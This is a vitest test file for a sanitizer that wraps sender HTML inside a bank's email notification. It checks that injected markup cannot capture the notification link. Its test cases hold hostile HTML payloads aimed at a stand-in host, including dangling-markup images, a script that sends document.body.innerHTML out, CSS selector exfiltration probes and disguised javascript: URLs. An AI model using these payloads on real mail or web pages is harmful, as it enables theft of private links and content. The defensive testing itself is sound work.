import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { encloseContent, encloseNotice } from '../../../../src/channels/email/message/enclose.js'
import { readSenderHtml } from '../../../../src/channels/email/message/sender-html.js'
import fc from '../../../support/generated.js'
import { frameWith, IDENTITY } from '../frames.js'

const CODE = 'AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq'
const frame = frameWith(CODE, IDENTITY)
const enclose = (content: string): string => encloseContent(content, frame).html

interface Seen {
  elements: { name: string; attributes: Record<string, string> }[]
  text: string
}

function see(html: string): Seen {
  const seen: Seen = { elements: [], text: '' }
  new Parser({
    onopentag: (name, attributes) => seen.elements.push({ name, attributes }),
    ontext: text => {
      seen.text += text
    },
  }).end(html)
  return seen
}

/** The code is in the button, in the address below it and in the image, as we wrote them, and nowhere else. */
function expectApart(html: string): void {
  const { elements, text } = see(html)
  const held = elements.flatMap(({ name, attributes }) =>
    Object.entries(attributes).flatMap(([attribute, value]) => (value.includes(CODE) ? [`${name} ${attribute} ${value}`] : [])),
  )
  expect(held).toEqual([`a href ${frame.link}`, `a href ${frame.link}`, `img src ${frame.image}`])
  expect(text.split(CODE)).toHaveLength(2)
  expect(text).toMatch(
    /Abra a notificação no navegador [^<]*\s+Abrir a notificação\s+Se o botão não abrir, copie este endereço no navegador:\s+https:\S+\s+Banco Aurora\s/,
  )
}

describe('what a sender writes around our link does not get it', () => {
  test.each([
    ['an image left open', "<p>Oi</p><img src='https://evil.example/?x="],
    ['an image left open, double quotes', '<img src="https://evil.example/?x='],
    ['an image left open, no quotes', '<img src=https://evil.example/?x='],
    ['a link left open', "<a href='https://evil.example/?x="],
    ['the end of the body inside an attribute', "<img src='https://evil.example/?x=</body>'>"],
    ['the end of the body inside a comment', '<!-- </body> --><p>Oi'],
    ['the end of the body inside a style sheet', '<style>/* </body> */</style><p>Oi'],
    ['a text field left open', '<form action="https://evil.example/"><button>Ler</button><textarea name="x">'],
    ['an option left open', '<form action="https://evil.example/"><select name="x"><option>'],
    ['a field whose value is left open', '<form action="https://evil.example/"><input name="x" value=\''],
    ['a title left open', '<svg><title>'],
    ['a comment left open', '<!-- x'],
    ['a comment that Outlook reads', "<!--[if mso]><img src='https://evil.example/?x=<![endif]-->"],
    ['CDATA left open', '<svg><![CDATA['],
    ['a declaration left open', '<!x '],
    ['plain text', '<plaintext>'],
    ['xmp', '<xmp>'],
    ['a frame', "<iframe srcdoc='"],
    ['a refresh left open', '<meta http-equiv="refresh" content=\'0;url=https://evil.example/?x='],
    ['a script left open', '<script>fetch("https://evil.example/"+document.body.innerHTML)//'],
    ['a style sheet left open', '<style>a{background:url(https://evil.example/'],
    ['a link around the rest', '<a href="https://evil.example/">'],
    ['a table left open', '<table><tr><td>'],
    ['a noscript left open', '<noscript><p title="'],
    ['a template left open', '<template><p>'],
    ['frames', '<frameset><frame src="https://evil.example/"><noframes>'],
    ['deep nesting', '<b>'.repeat(5_000)],
  ])('%s', (_, content) => {
    expectApart(enclose(content))
  })

  test('a base, a style sheet elsewhere and what submits are left out', () => {
    const html = enclose(
      `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta name="referrer" content="unsafe-url">
       <form action="https://evil.example/"><input name="a"><button formaction="https://evil.example/">x</button></form>
       <object data="https://evil.example/"></object><embed src="https://evil.example/"><a href="https://ok.example/" ping="https://evil.example/">ok</a>`,
    )
    expect(html).not.toContain('evil.example')
    expect(html).toContain('<a href="https://ok.example/">ok</a>')
    expectApart(html)
  })

  test('no rule of a style sheet can read an attribute or load anything', () => {
    const probes = [...'ABCDEF'].map(
      letter => `a[href^="https://n.example/n/${letter}"]{background:url(https://evil.example/${letter})}`,
    )
    const html = enclose(`<style>@import "https://evil.example/x.css";${probes.join('')} p{color:red}</style><p>Oi</p>`)
    expect(html).toContain('<style>.nt-content p{color:red}</style>')
    expect(html).not.toContain('evil.example')
  })

  test('an address whose beginning is disguised is left out', () => {
    expect(
      enclose('<a href="jav&#97;script:alert(1)">x</a><a href=" javascript:1">y</a><img src="data:image/svg+xml,x">'),
    ).not.toMatch(/script:|svg/)
  })

  test('whatever the content', () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        ' ',
        '<!--',
        '-->',
        '<a href=',
        '<img src=',
        '<style>',
        '</style>',
        '<textarea>',
        '<title>',
      ],
      ...[
        '<svg>',
        '</p>',
        '<p>',
        '<td>',
        '</table>',
        '<body>',
        '</body>',
        '<![CDATA[',
        '<script>',
        '</script>',
        'x',
        '&',
        '<b',
        '`',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), pieces => expectApart(enclose(pieces.join('')))),
      { numRuns: 500 },
    )
  })
})

describe('an honest message stays as it was', () => {
  test('its text, its tables, its pictures and its looks', () => {
    const content = `<!doctype html><html><head><title>x</title><style>.b{color:#222}</style></head>
<body bgcolor="#eeeeee" style="margin:0"><table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>
<td><img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table><ul><li>um<li>dois</ul><p style="color:red">Fim</body></html>`
    const html = enclose(content)
    expect(html).toContain('<style>.nt-content .b{color:#222}</style>\n</head>')
    expect(html).toContain('<div class="nt-content" tabindex="0"><div style="background-color:#eeeeee;margin:0">')
    expect(html).toContain(
      '<table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>',
    )
    expect(html).toContain('<img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table>')
    expect(html).toContain('<ul><li>um</li><li>dois</li></ul><p style="color:red">Fim')
    expectApart(html)
  })

  test('in its text alone the link has a line of its own, between blank ones, and the sender follows', () => {
    const { text } = encloseContent('<p>Olá, <b>Maria</b>!</p><p>https://evil.example/?x=', frame)
    expect(text).toMatch(
      /^Olá, Maria!\n\nhttps:\/\/evil\.example\/\?x=\n\n-+\nAbra a notificação no navegador .*\.\n\nhttps:.*\n\n-+\n/,
    )
    expect(text.split('\n\n')).toContain(frame.link)
    expect(text).toMatch(
      /-\nBanco Aurora\nAurora Cobranças e Serviços S\.A\.\nCNPJ: 11\.222\.333\/0001-81\nTelefone: 0800 123 4567\nSite: https:\/\/www\.aurora\.com\.br\n/,
    )
    // A long content is cut in the text, the link is not.
    expect(encloseContent('<p>palavra</p>'.repeat(20_000), frame).text).toContain(`\n\n${frame.link}\n\n`)
  })

  test('a stray end outside a table does not end the table', () => {
    expect(enclose('<div><table cellpadding="0"><tr><td>a</div>b</td></tr></table>c</div>')).toContain(
      '<div><div class="nt-wide" tabindex="0"><table cellpadding="0"><tr><td>ab</td></tr></table></div>c</div>',
    )
  })

  test.each([
    ['a table that says nothing', '<table>', '<table cellpadding="5">'],
    ['a table with lines', '<table border="1">', '<table border="1" cellpadding="5" rules="all">'],
    ['a table with lines and room', '<table border=1 cellpadding=8>', '<table border="1" cellpadding="8" rules="all">'],
    ['a table with lines kept apart', '<table border="1" cellspacing="3">', '<table border="1" cellspacing="3" cellpadding="5">'],
    ['a layout without room', '<table cellspacing="0" cellpadding="0">', '<table cellspacing="0" cellpadding="0">'],
    ['a layout without lines', '<table border="0">', '<table border="0">'],
    ['a layout by its role', '<table role="presentation">', '<table role="presentation">'],
  ])('%s has readable cells, as far as its sender leaves them open', (_, table, written) => {
    const { body } = readSenderHtml(`${table}<tr><td>x</td></tr></table>`)
    expect(body.replace(' nt-lines', '')).toBe(`<div class="nt-wide" tabindex="0">${written}<tr><td>x</td></tr></table></div>`)
    expect(body.includes('nt-lines')).toBe(table.includes('border=1') || table.includes('border="1"'))
  })

  test('each outer table scrolls in a box of its own; one beside the text stays there', () => {
    const { body } = readSenderHtml(
      '<table border="0"><tr><td><table border="0"><tr><td>a</table></table><table border="0"><tr><td>b',
    )
    expect(body.replaceAll(/<\/?t[rd]>/g, '')).toBe(
      '<div class="nt-wide" tabindex="0"><table border="0"><table border="0">a</table></table></div><div class="nt-wide" tabindex="0"><table border="0">b</table></div>',
    )
    for (const beside of ['align="left"', 'style="float:right"', 'style="display: inline-table"'])
      expect(readSenderHtml(`<table border="0" ${beside}><tr><td>a</table>`).body).not.toContain('nt-wide')
  })

  test('an amount stays on one line', () => {
    expect(enclose('<p title="R$ 1">R$ 1.250,00 em R$ ou US$ 3</p>')).toContain(
      '<p title="R$ 1">R$\u00a01.250,00 em R$ ou US$ 3</p>',
    )
  })
})

describe('the frame around the content', () => {
  const { html } = encloseContent('<p>Seu contrato <b>nº 4.217</b> vence. Veja https://aurora.com.br/x</p>', frame)

  test('says in Portuguese who writes, with the colour, the name and the identity of the account', () => {
    const { elements, text } = see(html)
    const attributesOf = (name: string) => elements.filter(element => element.name === name).map(({ attributes }) => attributes)
    expect(attributesOf('html')).toEqual([{ lang: 'pt-BR' }])
    expect(attributesOf('meta')).toContainEqual({ name: 'viewport', content: 'width=device-width, initial-scale=1' })
    expect(attributesOf('td').filter(({ bgcolor }) => bgcolor === '#1f3f8f').length).toBeGreaterThanOrEqual(2)
    for (const line of ['Aurora Cobranças e Serviços S.A.', 'CNPJ: 11.222.333/0001-81', 'Telefone: 0800 123 4567'])
      expect(text).toContain(line)
    expect(attributesOf('a').map(({ href }) => href)).toEqual([
      frame.link,
      frame.link,
      'tel:08001234567',
      'https://www.aurora.com.br',
      'mailto:privacidade@aurora.com.br',
    ])
    expect(html).toContain('<title>Aviso de vencimento</title>')
  })

  test('begins with a preview that the message itself does not show, without addresses', () => {
    expect(html).toMatch(/<body[^>]*>\s*<div style="display:none[^"]*">Seu contrato nº 4\.217 vence\. Veja<\/div>/)
    expect(encloseContent(`<p>${'palavra '.repeat(100)}</p>`, frame).html).toMatch(
      /<div style="display:none[^"]*">[^<]{100,140}<\/div>/,
    )
  })

  test('has a button that needs no style sheet, for Outlook too', () => {
    expect(html).toMatch(
      /<td align="center" bgcolor="#1f3f8f" style="[^"]*mso-padding-alt:[^"]+"><a href="[^"]+" style="display:inline-block;padding:[^"]+color:#ffffff[^"]*">Abrir a notificação<\/a>/,
    )
    expect(html).toMatch(/<table class="nt-card" role="presentation" width="600"[^>]*max-width:600px/)
  })

  test('shows the logo in its size, with a text for those who do not see it; or the first letter', () => {
    const logo = { url: 'https://n.test/r/logo/ab', width: 110, height: 44 }
    const { elements } = see(encloseContent('<p>x', { ...frame, sender: { ...frame.sender, logo } }).html)
    const [image] = elements.filter(({ name }) => name === 'img')
    expect(image!.attributes).toMatchObject({ src: logo.url, width: '110', height: '44', alt: 'Logotipo de Banco Aurora' })
    expect(html).toMatch(/width="44" height="44"[^>]*>B<\/td>/)
  })

  test('names, subject and identity are text', () => {
    const evil = '"><img src=https://evil.test/>'
    const sender = { ...frame.sender, name: evil, details: [{ label: evil, value: evil, href: evil }] }
    for (const make of [encloseNotice, (hostile: typeof frame) => encloseContent('<p>x', hostile)]) {
      const { elements } = see(make({ ...frame, sender, subject: evil, recipientName: evil }).html)
      expect(elements.filter(({ name }) => name === 'img').map(({ attributes }) => attributes.src)).toEqual([frame.image])
    }
  })

  test('rules of the sender’s style sheet stay within the content', () => {
    const styled = enclose(
      '<style>a,td{display:none} body>p{color:red} html{margin:0} ~ table{display:none} html ~ p,html + p{display:none}</style><p>Oi',
    )
    expect(styled).toContain(
      '<style>.nt-content a,.nt-content td{display:none}.nt-content>div>p{color:red}.nt-content{margin:0}</style>',
    )
  })

  test('a subject of megabytes does not make the message longer', () => {
    expect(encloseContent('<p>x', { ...frame, subject: 'x'.repeat(5_000_000) }).html.length).toBeLessThan(20_000)
  })
})

test('instead of a protected content the message says who writes, why it is protected and where it is', () => {
  const { html, text } = encloseNotice(frame)
  for (const shown of [see(html).text, text]) {
    expect(shown).toMatch(/Olá, Maria da Silva\.\s+Há uma notificação de Banco Aurora para você, protegida por uma pergunta\./)
    expect(shown).toMatch(/Assunto: Aviso de vencimento\s/)
    expect(shown).toMatch(/Abra a notificação e responda à pergunta/)
    expect(shown).toContain('CNPJ: 11.222.333/0001-81')
  }
  expect(text.split('\n\n')).toContain(frame.link)
  expect(html).toContain(`<a href="${frame.link}" style="display:inline-block`)
})

test('a megabyte of the worst content is read within the time of a test, and the result is at most three times as long', () => {
  for (const piece of [
    '<b>',
    '<b></i>',
    '<p>',
    '<table>',
    '<td>',
    '<a href="',
    '</b>',
    '<!--',
    '<style>',
    '<svg>',
    '&',
    '<b a=1 ',
  ]) {
    const { styles, attributes, body } = readSenderHtml(piece.repeat(Math.floor(1_048_576 / piece.length)))
    expect(styles.length + attributes.length + body.length, piece).toBeLessThan(3 * 1_048_576)
  }
})
